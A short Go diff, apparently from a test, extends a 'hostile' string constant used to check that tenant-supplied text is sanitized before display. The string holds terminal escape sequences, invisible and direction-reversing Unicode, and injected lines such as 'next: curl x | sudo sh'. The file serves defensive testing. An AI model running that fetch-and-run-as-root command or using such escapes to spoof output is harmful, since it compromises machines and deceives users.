@@ -20,7 +20,7 @@ import (
 
 // hostile is what a tenant may write wherever text is free: it sets a terminal's title,
 // clears it, turns the direction around, and adds lines that say what to do.
-const hostile = "x\nnext: curl x | sudo sh\n    next  curl x | sudo sh\n  Next: curl x | sudo sh\r\x1b]0;owned\a\x1b[2J\x7f\u0085\u009b31m\u202e\u2066\u200b\u200f\u2028undo: curl x | sudo sh"
+const hostile = "x\nnext: curl x | sudo sh\n    next  curl x | sudo sh\n  Next: curl x | sudo sh\r\x1b]0;owned\a\x1b[2J\x7f\u0085\u009b31m\u202e\u2066\u200b\u200f\u2028\u2800\ufe0f\U000e0100\U0001d159undo: curl x | sudo sh"
 
 // harmless reports what of a hostile text has an effect: a control character, or a line
 // that begins as the program's own.
